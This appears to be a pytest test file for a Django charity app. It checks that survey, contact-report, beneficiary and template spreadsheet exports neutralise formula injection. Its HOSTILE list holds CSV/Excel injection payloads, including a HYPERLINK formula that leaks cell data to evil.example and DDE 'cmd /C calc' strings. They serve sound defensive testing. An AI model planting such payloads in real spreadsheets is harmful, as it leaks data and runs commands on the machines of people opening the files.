"""One spreadsheet writer for every export: text that starts like a formula (= + - @, tab, carriage
return) is never written as one; numbers, dates and booleans stay what they are. Each export is
checked: survey results, contact reports, the beneficiaries export (xlsx and csv, staff page and
admin), the import template."""

import csv
import datetime as dt
import io
import re
import zipfile
from zoneinfo import ZoneInfo

import pytest
from django.contrib.admin import site
from django.test import RequestFactory
from django.urls import reverse
from import_export.formats.base_formats import XLSX
from openpyxl import load_workbook

from association.channels import Channel
from association.kernel import spreadsheets
from beneficiaries import importing
from beneficiaries.admin import BeneficiaryAdmin
from beneficiaries.models import Beneficiary
from beneficiaries.resources import COLUMNS
from surveys import services as survey_services
from tests.channels_log.factories import make_contact
from tests.factories import BeneficiaryFactory, UserFactory
from tests.surveys.factories import answers_for, make_survey, open_invitation

pytestmark = pytest.mark.django_db
RIYADH = ZoneInfo("Asia/Riyadh")

# Each would run in a spreadsheet if written as it is: a formula, a DDE call, a link that leaks data.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A2,"تفاصيل")',
    "+966551234567+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formulas(content: bytes) -> list[str]:
    """Every formula element in every worksheet of the workbook's XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            found
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for found in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


def _text_cells(content: bytes) -> dict[str, object]:
    """value → cell, for every string cell of every sheet."""
    workbook = load_workbook(io.BytesIO(content))
    return {
        cell.value: cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def assert_shown_as_typed(content: bytes, texts) -> None:
    assert _formulas(content) == []
    cells = _text_cells(content)
    for text in texts:
        cell = cells.get(text)
        assert cell is not None, f"{text!r} is not in the workbook as typed"
        assert cell.data_type == "s" and cell.quotePrefix


# --- the writer -----------------------------------------------------------------------------------


def test_formula_like_text_is_written_as_text_and_values_keep_their_types():
    aware = dt.datetime(2026, 11, 5, 6, 30, tzinfo=dt.UTC)
    content = spreadsheets.xlsx_bytes(
        [spreadsheets.Sheet("ورقة", ["نص", "عدد"], [[text, -5] for text in HOSTILE] + [["عادي", 2.5], [aware, True]])]
    )
    assert_shown_as_typed(content, HOSTILE)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.sheet_view.rightToLeft  # Arabic interface: right to left
    assert [cell.font.b for cell in sheet[1]] == [True, True]
    numbers = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert numbers[:6] == [-5] * 6 and numbers[6] == 2.5 and numbers[7] is True
    assert sheet.cell(row=2, column=2).data_type == "n"
    assert sheet.cell(row=8, column=1).value == "عادي" and not sheet.cell(row=8, column=1).quotePrefix
    assert sheet.cell(row=9, column=1).value == aware.astimezone(RIYADH).replace(tzinfo=None)  # 09:30 in Riyadh


def test_csv_cells_get_an_apostrophe_and_import_takes_it_off():
    content = spreadsheets.csv_bytes(["a", "b"], [[text, -5] for text in HOSTILE] + [["عادي", 7]])
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:7]] == ["'" + text for text in HOSTILE]
    assert [row[1] for row in rows[1:]] == ["-5"] * 6 + ["7"]
    assert rows[7][0] == "عادي"
    assert [spreadsheets.unescape(row[0]) for row in rows[1:7]] == HOSTILE
    assert spreadsheets.unescape("'quoted") == "'quoted"


# --- every export ---------------------------------------------------------------------------------


def test_survey_results_export_keeps_a_free_text_answer_as_text(client_for, manager):
    invitation = open_invitation(make_survey(kinds=("rating", "text")))
    survey_services.response_submit(
        token=invitation.token, answers=answers_for(invitation.version, rating=3, text=HOSTILE[0])
    )
    response = client_for(manager).get(reverse("surveys:results_export"))
    assert response.status_code == 200
    assert_shown_as_typed(response.content, [HOSTILE[0]])
    answers = load_workbook(io.BytesIO(response.content)).worksheets[1]
    assert 3 in [row[-1] for row in answers.iter_rows(min_row=2, values_only=True)]  # the rating, a number


def test_contact_report_export_keeps_a_channel_name_as_text(client_for, manager, officer):
    Channel.objects.create(code="kiosk", name_ar=HOSTILE[3], name_en=HOSTILE[3], order=99)
    make_contact(actor=officer, channel_code="kiosk")
    response = client_for(manager).get(reverse("channels_log:case_reports_xlsx"))
    assert response.status_code == 200
    assert_shown_as_typed(response.content, [HOSTILE[3]])


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_beneficiary_export_from_the_staff_page(client_for, manager, file_format):
    BeneficiaryFactory(district=HOSTILE[0], health_notes=HOSTILE[2])
    response = client_for(manager).post(reverse("beneficiaries:export"), {"file_format": file_format})
    assert response.status_code == 200
    if file_format == "xlsx":
        assert_shown_as_typed(response.content, [HOSTILE[0], HOSTILE[2]])
    else:
        text = response.content.decode("utf-8-sig")
        row = next(csv.DictReader(io.StringIO(text)))
        values = list(row.values())
        assert values[COLUMNS.index("district")] == "'" + HOSTILE[0]
        assert values[COLUMNS.index("health_notes")] == "'" + HOSTILE[2]


def test_beneficiary_export_from_the_admin(superuser):
    BeneficiaryFactory(city=HOSTILE[1])
    request = RequestFactory().post("/")
    request.user = superuser
    content = BeneficiaryAdmin(Beneficiary, site).get_export_data(XLSX(), request, Beneficiary.objects.all())
    assert_shown_as_typed(content, [HOSTILE[1]])


def test_import_template_is_written_by_the_same_writer(client_for):
    officer = UserFactory(role="relations_officer")
    response = client_for(officer).get(reverse("beneficiaries:import_template"))
    assert response.status_code == 200
    assert response.content == importing.template_workbook()
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.sheet_view.rightToLeft and all(cell.font.b for cell in sheet[1])
    assert sheet.max_row == 1 and _formulas(response.content) == []
